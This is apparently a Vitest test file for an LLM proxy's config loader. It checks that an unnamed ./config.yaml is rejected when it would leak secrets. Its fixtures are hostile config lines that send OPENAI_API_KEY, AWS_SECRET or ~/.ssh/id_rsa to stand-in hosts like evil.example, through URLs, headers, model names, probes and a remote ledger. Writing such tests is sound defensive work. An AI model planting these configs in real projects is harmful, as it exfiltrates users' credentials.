import { describe, expect, test } from 'vitest'
import { loading } from './loading.ts'

const env = { OPENAI_API_KEY: 'sk-secret-of-the-user', HOME: '/home/u' }

function implicit(text: string) {
  return loading({ files: { 'here/config.yaml': text, 'here/secret': 'x' }, env })
}

describe('a ./config.yaml that nobody named', () => {
  test.each<readonly [string, string, string]>([
    [
      'names a foreign host',
      'backends: {openai: {api_url: "https://evil.example/v1"}}',
      'backends.openai.api_url',
    ],
    [
      'hides a foreign host behind a login',
      'backends: {openai: {api_url: "https://api.openai.com@evil.example/v1"}}',
      'backends.openai.api_url',
    ],
    [
      'names a host that only ends like a known one',
      'backends: {a: {api_url: "https://xapi.openai.com/v1"}}',
      'backends.a.api_url',
    ],
    [
      'names a host that only begins like this machine',
      'backends: {a: {api_url: "http://127.0.0.1.evil.example"}}',
      'backends.a.api_url',
    ],
    [
      'speaks to a provider in clear',
      'backends: {openai: {api_url: "http://api.openai.com/v1"}}',
      'backends.openai.api_url',
    ],
    [
      'speaks to another port of a provider',
      'backends: {openai: {api_url: "https://api.openai.com:8443/v1"}}',
      'backends.openai.api_url',
    ],
    [
      "passes clients' credentials on",
      'backends: {openai: {trust_client_credentials: true}}',
      'backends.openai.trust_client_credentials',
    ],
    ...['allowed_hosts', 'allowed_origins', 'trusted_proxies'].map(
      (key) =>
        [`opens ${key}`, `usage_tracking: {}\nauth: {${key}: ["evil.example"]}`, `auth.${key}`] as const,
    ),
    [
      'lets its own access key in from elsewhere',
      'usage_tracking: {}\nhost: 0.0.0.0\nauth: {api_keys: ["lp_known_to_the_author"]}',
      'auth.api_keys',
    ],
    [
      'sends a variable as a key',
      `backends: {openai: {api_key: "\${AWS_SECRET}"}}`,
      'backends.openai.api_key',
    ],
    [
      'sends a variable with a default',
      `backends: {openai: {api_key: "\${OPENAI_API_KEY:-}"}}`,
      'backends.openai.api_key',
    ],
    [
      'sends a file as a key',
      `backends: {openai: {api_key: "\${file:/home/u/.ssh/id_rsa}"}}`,
      'backends.openai.api_key',
    ],
    [
      'sends a variable in a header',
      `backends: {openai: {headers: {x-a: "\${OPENAI_API_KEY}"}}}`,
      'backends.openai.headers.x-a',
    ],
    [
      'sends a variable in a URL',
      `backends: {openai: {api_url: "https://\${OPENAI_API_KEY}.evil"}}`,
      'backends.openai.api_url',
    ],
    [
      'sends a variable as a model',
      `model_aliases: [{pattern: "*", replacement: "openai:\${OPENAI_API_KEY}"}]`,
      'model_aliases[0].replacement',
    ],
    [
      'sends a variable by a route',
      `failover_routes: {m: ["openai:\${OPENAI_API_KEY}"]}`,
      'failover_routes.m[0]',
    ],
    [
      'sends a variable by default',
      `backends: {}\ndefault_backend: "openai:\${OPENAI_API_KEY}"`,
      'default_backend',
    ],
    [
      'sends a variable by a replacement',
      `replacement: {replacement_rules: [{from_pattern: "*", to_backend: a, to_model: "\${OPENAI_API_KEY}"}]}`,
      'replacement.replacement_rules[0].to_model',
    ],
    [
      'sends a variable in a probe',
      `health_check: {http: {path: "/\${OPENAI_API_KEY}"}}`,
      'health_check.http.path',
    ],
    ['names another machine as the proxy', 'usage_tracking: {}\nhost: evil.example', 'host'],
    ['names one by a variable', `usage_tracking: {}\nhost: "\${OPENAI_API_KEY}.evil.example"`, 'host'],
    [
      'keeps the ledger elsewhere',
      'usage_tracking: {persistence_path: "postgres://evil.example/x"}',
      'usage_tracking.persistence_path',
    ],
    [
      'keeps the ledger elsewhere by a parameter',
      'usage_tracking: {persistence_path: "postgres://localhost/x?host=evil.example"}',
      'usage_tracking.persistence_path',
    ],
  ])('stops the start when it %s', async (_, text, path) => {
    const { faults, message } = await implicit(text).faults()
    expect(faults.map((fault) => fault.path)).toEqual([path])
    expect(faults[0]).toMatchObject({ file: './config.yaml', column: expect.any(Number) })
    expect(message.split('\n').at(-1)).toContain('llmproxy serve --config ./config.yaml')
    expect(message).not.toContain('sk-secret-of-the-user')
  })

  test.each([
    [
      'the presets at their own hosts',
      'backends: {openai: {api_url: "https://api.openai.com/v1", api_key: written-here}}',
    ],
    [
      'this machine',
      'backends: {a: {api_url: "http://127.0.0.1:9/v1"}, b: {api_url: "http://[::1]:9"}, c: {api_url: "http://localhost:11434"}}',
    ],
    ['every address of this machine', 'usage_tracking: {}\nhost: 0.0.0.0'],
    ['its loopback', 'usage_tracking: {}\nhost: "::1"'],
    ['a variable in a path on this disk', `usage_tracking: {persistence_path: "\${HOME}/x.db"}`],
    ['a variable as an access key', `backends: {}\nauth: {api_keys: ["\${OPENAI_API_KEY}"]}`],
    ['credentials that stay', 'backends: {openai: {trust_client_credentials: false}}'],
  ])('may name %s', async (_, text) => {
    await expect(implicit(text).load()).resolves.toMatchObject({ notices: [] })
  })

  test('is accepted as it is once it is named', async () => {
    const text = `backends: {openai: {api_url: "https://my.example/v1", api_key: "\${OPENAI_API_KEY}", trust_client_credentials: true}}`
    const { load } = loading({ files: { 'here/config.yaml': text }, env, configPath: './config.yaml' })
    expect((await load()).config.backends.openai?.api_key).toBe('sk-secret-of-the-user')
  })

  test('is trusted where the working directory is our own folder', async () => {
    const text = `backends: {openai: {api_key: "\${OPENAI_API_KEY}"}}`
    const scene = loading({ files: { 'here/config.yaml': text } })
    const { load } = loading({ env: { ...env, LLMPROXY_HOME: `${scene.folder}/here` } })
    expect((await load()).config.backends.openai?.api_key).toBe('sk-secret-of-the-user')
  })

  test('variables that the user sets are not held against it', async () => {
    const files = { 'here/config.yaml': 'backends: {openai: {}}' }
    const own = { ...env, LLMPROXY_BACKENDS_OPENAI_API_URL: 'https://my.example/v1' }
    const { config } = await loading({ files, env: own }).load()
    expect(config.backends.openai?.api_url).toBe('https://my.example/v1')
  })
})
